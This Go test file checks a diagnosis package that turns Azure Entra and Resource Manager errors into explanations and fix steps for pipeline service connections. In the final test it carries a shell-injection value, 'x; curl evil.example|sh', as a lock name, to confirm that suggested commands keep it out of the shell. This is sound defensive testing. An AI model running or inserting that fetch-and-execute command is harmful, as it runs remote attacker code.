package diagnosis

import (
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"armpreflight/internal/catalogue"
	"armpreflight/internal/catalogue/facts"
	"armpreflight/internal/evidence"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

var prod = Situation{
	Connection: "prod-arm", ConnectionLink: "https://dev.azure.com/contoso/shop/_settings/adminservices?resourceId=5b6c", Description: "ask platform@contoso.example",
	TenantID: "11111111-2222-3333-4444-555555555555", ClientID: "a1b2c3d4…", Subscription: "Contoso Prod", Cloud: "AzureCloud", Agent: "build-7",
}

func situation(scheme Scheme, mode Mode) Situation {
	s := prod
	s.Scheme, s.Mode = scheme, mode
	return s
}

func TestAnExpiredSecretHasItsOwnWayForEachCreationMode(t *testing.T) {
	ev := evidence.FromResponse(evidence.Entra, 401, nil, []byte(`{"error":"invalid_client","error_description":"AADSTS7000222: The provided client secret keys for app '***' are expired.","error_codes":[7000222]}`), nil)

	d := ExplainEvidence(ev, situation(SchemeKey, ModeAutomatic), nil)
	assert.Equal(t, Code("AADSTS7000222"), d.Code)
	assert.Equal(t, "the client secret of connection 'prod-arm' has expired", d.Headline)
	assert.Equal(t, ConnectionAdministrator, d.Who)
	assert.Equal(t, prod.ConnectionLink, d.Link)
	assert.Equal(t, prod.Description, d.Ask)
	require.Len(t, d.Steps, 6)
	assert.Contains(t, d.Steps[2], "Rotate secret")
	assert.Contains(t, d.Steps[1], "you need permissions on the application in Microsoft Entra")
	assert.Contains(t, d.Steps[3], "change the description, and choose Save (not Verify")
	assert.Contains(t, d.Steps[3], "Edit → Verify → Save")
	assert.Contains(t, d.Steps[4], "Convert")
	assert.Contains(t, d.Steps[4], "if only this project uses the connection")
	assert.Equal(t, "Re-run the failed job.", d.Steps[5])

	d = ExplainEvidence(ev, situation(SchemeKey, ModeManual), nil)
	assert.Equal(t, ApplicationOwner, d.Who)
	steps := strings.Join(d.Steps, "\n")
	assert.Contains(t, steps, "copy its Value immediately (not the Secret ID)")
	assert.Contains(t, steps, "application (client) ID that begins with a1b2c3d4…")
	assert.Contains(t, steps, "workload identity federation")
	assert.NotContains(t, steps, "Convert", "only connections that Azure DevOps made can be converted")
	assert.NotContains(t, steps, "Rotate secret")

	d = ExplainEvidence(ev, situation(SchemeKey, ""), nil)
	steps = strings.Join(d.Steps, "\n")
	assert.Contains(t, steps, "(automatic)")
	assert.Contains(t, steps, "created the connection manually")
}

func TestAWrongSecretIsNotAnExpiredOne(t *testing.T) {
	wrong, expired := Explain("AADSTS7000215", prod, nil, nil), Explain("AADSTS7000222", prod, nil, nil)
	assert.NotEqual(t, wrong.Headline, expired.Headline)
	assert.Contains(t, wrong.Cause, "Secret ID")
	assert.Contains(t, wrong.Cause, "some time after a secret expires")
}

func TestASubjectThatDiffersIsNamedByPartAndPlace(t *testing.T) {
	d := Explain("AADSTS700213", situation(SchemeFederation, ModeManual),
		facts.Difference{Segment: "segment 3 of the subject (connection)", Position: 12, Case: true}, nil)
	assert.Equal(t, "no federated credential in Microsoft Entra has the subject of connection 'prod-arm': "+
		"segment 3 of the subject (connection) differs from the connection's record, starting at character 12, in letter case only", d.Headline)
	assert.Contains(t, d.Cause, "differ in segment 3 of the subject (connection), starting at character 12 of it, in letter case only.")

	d = Explain("AADSTS700213", situation(SchemeFederation, ModeManual), facts.Difference{Agree: true}, nil)
	assert.Equal(t, "no federated credential in Microsoft Entra has the subject of connection 'prod-arm'", d.Headline)
	assert.Contains(t, d.Cause, "you need to correct the federated credential in Microsoft Entra.")
	d = Explain("AADSTS700213", situation(SchemeFederation, ModeManual),
		facts.Difference{Segment: "segment 3 of the subject (project)", Position: 2, Part: "project", Presented: "Shop", Recorded: "Store"}, nil)
	assert.Equal(t, "the ID token says project 'Shop', but connection 'prod-arm' records 'Store': no federated credential has the ID token's subject", d.Headline)
	assert.Contains(t, d.Cause, "differ in segment 3 of the subject (project), starting at character 2 of it.")

	steps := strings.Join(d.Steps, "\n")
	for _, part := range []string{"Issuer", "Subject identifier", "api://AzureADTokenExchange", "Other issuer"} {
		assert.Contains(t, steps, part)
	}
}

func TestAMissingRoleNamesIdentityActionAndScope(t *testing.T) {
	ev := evidence.FromResponse(evidence.ARM, 403, nil, []byte(`{"error":{"code":"AuthorizationFailed","message":"The client 'c' with object id '0f0f-1' does not have authorization to perform action 'Microsoft.Resources/subscriptions/read' over scope '/subscriptions/5' or the scope is invalid."}}`), nil)
	d := ExplainEvidence(ev, prod, facts.Request{Group: "rg-app"})
	assert.Equal(t, "sign-in works, but the identity of connection 'prod-arm' doesn't have permission for 'Microsoft.Resources/subscriptions/read' at '/subscriptions/5'", d.Headline)
	assert.Equal(t, SubscriptionOwner, d.Who)
	steps := strings.Join(d.Steps, "\n")
	assert.Contains(t, steps, `--assignee-object-id 0f0f-1 --assignee-principal-type ServicePrincipal --role "<role>" --scope "/subscriptions/5"`)
	assert.NotContains(t, steps, "Management groups")

	ev.Scope = "/providers/Microsoft.Management/managementGroups/mg-test"
	d = ExplainEvidence(ev, prod, nil)
	assert.Contains(t, strings.Join(d.Steps, "\n"), "a group with the ID 'mg-test' exists")
}

func TestTheTenantOfASubscriptionComesFromItsAnswer(t *testing.T) {
	for _, s := range samples(t) {
		if s.Want == "InvalidAuthenticationTokenTenant" {
			d := ExplainEvidence(s.evidence(), prod, nil)
			assert.Equal(t, "subscription 'Contoso Prod' belongs to tenant e66fc46b-2666-4ea3-984d-bb30c06f2c75, but connection 'prod-arm' signs in to "+prod.TenantID, d.Headline)
			return
		}
	}
	t.Fatal("no sample")
}

func TestAVariableThatWasNotReplacedExplainsWhenConnectionsAreResolved(t *testing.T) {
	d := Explain("variable-unresolved", prod, facts.VariableUnresolved{Value: "$(conn)", Input: "azureSubscription", Exists: facts.Yes, Connecting: true}, nil)
	assert.Equal(t, "'$(conn)' was never replaced with a value in input 'azureSubscription': the variable got its value too late", d.Headline)
	assert.Contains(t, d.Cause, "when the run is queued")
	assert.Contains(t, strings.Join(d.Steps, "\n"), "${{parameters.name}}")
	absent := Explain("variable-unresolved", prod, facts.VariableUnresolved{Value: "$(conn)", Variable: "sub", Exists: facts.No}, nil)
	assert.Equal(t, "'$(conn)' was never replaced with a value in variable 'sub': the run doesn't have a variable with this name", absent.Headline)
	assert.Equal(t, PipelineAuthor, d.Who)
	assert.Empty(t, d.Ask)

	d = Explain("variable-unset", prod, facts.VariableUnset{Variable: "sub"}, nil)
	assert.Contains(t, strings.Join(d.Steps, "\n"), "$[ dependencies.<job>.outputs['<step>.<variable>'] ]")
}

func TestUnknownAnswersAreExplainedCalmly(t *testing.T) {
	ev := evidence.FromResponse(evidence.Entra, 400, nil, []byte(`{"error":"invalid_request","error_description":"AADSTS12345678: Something new.","error_codes":[12345678],"correlation_id":"c-1"}`), nil)
	d := ExplainEvidence(ev, prod, nil)
	assert.Equal(t, Code("AADSTS12345678"), d.Code)
	assert.Equal(t, "Microsoft Entra returned AADSTS12345678 (HTTP 400): AADSTS12345678: Something new", d.Headline)
	assert.Equal(t, "This version doesn't have an explanation for this code. HTTP 400 generally means: the request wasn't accepted as sent. "+
		"The message from Microsoft Entra is shown unchanged.", d.Cause)
	assert.Equal(t, Guess, d.Confidence)
	assert.Contains(t, strings.Join(d.Steps, "\n"), "correlation ID c-1")
	require.NotNil(t, d.Evidence)
	assert.Contains(t, d.Evidence.Body, "AADSTS12345678")

	d = ExplainEvidence(evidence.FromResponse(evidence.ARM, 418, nil, nil, nil), prod, nil)
	assert.Equal(t, UnexpectedAnswer, d.Code)
	assert.Equal(t, "Azure Resource Manager returned a response that this task doesn't recognize (HTTP 418)", d.Headline)
	assert.Contains(t, d.Cause, "HTTP 418 generally means: the request wasn't accepted as sent.")

	d = Explain("made-up", Situation{}, nil, nil)
	assert.Equal(t, "the service returned made-up", d.Headline)
	d = ExplainEvidence(evidence.Evidence{Service: evidence.ARM, Host: "x", Network: evidence.NetworkFailure(99)}, prod, nil)
	assert.Equal(t, catalogue.NetworkFailure, d.Code)
}

func TestValuesAreDataAndStayShort(t *testing.T) {
	d := Explain("variable-unset", prod, facts.VariableUnset{Variable: "a{connection}[b]\n##vso[x]\x1b", Detail: strings.Repeat("long ", 500)}, nil)
	assert.Contains(t, d.Headline, "variable 'a{connection}[b] ##vso[x]' doesn't have a value")
	assert.LessOrEqual(t, utf8.RuneCountInString(d.Headline), maxHeadline)
	assert.NotContains(t, d.Headline, "\n")
}

func TestEveryNetworkFailureHasItsCode(t *testing.T) {
	want := map[evidence.NetworkFailure]Code{
		evidence.DNSFailure: "dns-failure", evidence.ConnectionRefused: "connection-refused", evidence.ConnectTimeout: "connect-timeout", evidence.ConnectionReset: "connection-reset",
		evidence.TLSUntrusted: "tls-untrusted", evidence.TLSExpired: "tls-failed", evidence.TLSHostname: "tls-failed", evidence.ProxyAuthentication: "proxy-authentication-required",
		evidence.ProxyRefused: "proxy-refused", evidence.ProxyUnreachable: "proxy-unreachable", evidence.Unreachable: "no-route", evidence.AnswerTimeout: "answer-timeout",
		evidence.NotTLS: "tls-failed", evidence.TooLarge: "unexpected-answer", evidence.HostNotAllowed: "tool-fault", evidence.Canceled: "cancelled", evidence.OtherNetwork: "network-failure",
	}
	words := map[string]bool{}
	for failure := evidence.DNSFailure; failure <= evidence.OtherNetwork; failure++ {
		ev := evidence.Evidence{Service: evidence.ARM, Host: "management.azure.com", Network: failure, NetworkDetail: "what was seen"}
		d := ExplainEvidence(ev, prod, facts.Request{Detail: "a comparison of subjects"})
		assert.Equal(t, want[failure], d.Code, failure.String())
		assert.NotContains(t, d.Headline, "a comparison of subjects", "%s: what the network said comes first", failure)
		assert.False(t, words[failure.String()], "%s stands for two failures", failure)
		words[failure.String()] = true
	}
}

func TestTransientIsWhatTheEntrySaysElseTheStatus(t *testing.T) {
	tests := map[string]struct {
		ev   evidence.Evidence
		want bool
	}{
		"an expired secret":                 {evidence.Evidence{Service: evidence.Entra, Status: 401, Codes: []string{"AADSTS7000222"}}, false},
		"a passing fault":                   {evidence.Evidence{Service: evidence.Entra, Status: 400, Codes: []string{"AADSTS90033"}}, true},
		"a loop":                            {evidence.Evidence{Service: evidence.Entra, Status: 400, Codes: []string{"AADSTS50196"}}, false},
		"an issuer that was not reached":    {evidence.Evidence{Service: evidence.Entra, Status: 400, Codes: []string{"AADSTS501661"}}, true},
		"a missing role that may arrive":    {evidence.Evidence{Service: evidence.ARM, Status: 403, Codes: []string{"AuthorizationFailed"}}, false},
		"a stopped organization with 503":   {evidence.Evidence{Service: evidence.DevOps, Status: 503, Codes: []string{"VssServiceException", "TF24668"}}, false},
		"429 with words only":               {evidence.Evidence{Service: evidence.Entra, Status: 429, Message: "Too Many Requests"}, true},
		"408":                               {evidence.Evidence{Service: evidence.ARM, Status: 408}, true},
		"502 with a page":                   {evidence.Evidence{Service: evidence.ARM, Status: 502, ContentType: evidence.HTML}, true},
		"404":                               {evidence.Evidence{Service: evidence.ARM, Status: 404}, false},
		"200":                               {evidence.Evidence{Service: evidence.ARM, Status: 200}, false},
		"an endpoint that is updated":       {evidence.Evidence{Service: evidence.ManagedIdentity, Status: 410}, true},
		"404 of another metadata service":   {evidence.Evidence{Service: evidence.ManagedIdentity, Status: 404}, false},
		"404 of the real one":               {evidence.Evidence{Service: evidence.ManagedIdentity, Status: 404, Server: "IMDS/150.870"}, true},
		"nothing at all":                    {evidence.Evidence{}, false},
		"a proxy that asks for credentials": {evidence.Evidence{Service: evidence.ARM, Network: evidence.ProxyAuthentication}, false},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			Match(&tt.ev)
			assert.Equal(t, tt.want, tt.ev.Transient())
		})
	}
}

func TestAWaitIsSaidInTheSteps(t *testing.T) {
	d := ExplainEvidence(evidence.Evidence{Service: evidence.ARM, Status: 429, RetryAfter: 90 * time.Second}, prod, nil)
	assert.Contains(t, d.Headline, "wait 1m30s")
	assert.Equal(t, "Re-run the failed job after 1m30s.", d.Steps[0])
}

func TestACommandHoldsNothingForTheShell(t *testing.T) {
	lock := facts.ReadOnlyLock{Lock: "x; curl evil.example|sh", Scope: `/subscriptions/$(id)`, Group: "rg (app)", SubscriptionID: "a6c4e2f8"}
	d := Explain("read-only-lock", Situation{}, lock, nil)
	steps := strings.Join(d.Steps, "\n")
	assert.Contains(t, steps, `az lock delete --name "<lock>" --resource-group "rg (app)" --subscription a6c4e2f8`)
	assert.Contains(t, d.Headline, "x; curl", "a sentence tells it as it is")
	d = Explain("permission-missing", Situation{ObjectID: "e41a9d06"}, facts.PermissionMissing{Scope: lock.Scope}, nil)
	assert.NotContains(t, strings.Join(d.Steps, "\n"), "$(id)")
}
